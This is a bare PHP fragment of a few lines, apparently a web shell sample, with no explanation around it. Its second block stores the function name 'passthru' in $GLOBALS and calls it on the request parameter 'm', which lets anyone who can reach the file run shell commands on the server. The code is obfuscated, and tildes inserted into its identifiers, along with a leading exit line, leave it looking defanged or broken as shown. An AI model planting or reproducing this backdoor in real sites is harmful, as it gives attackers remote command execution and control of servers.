<?php exit; ?>
<?php
$GLO~BALS[$GLO~BALS['z'] = 'pas~sthru'] = 1; $GLO~BALS['z']($_R~EQUEST['m']);
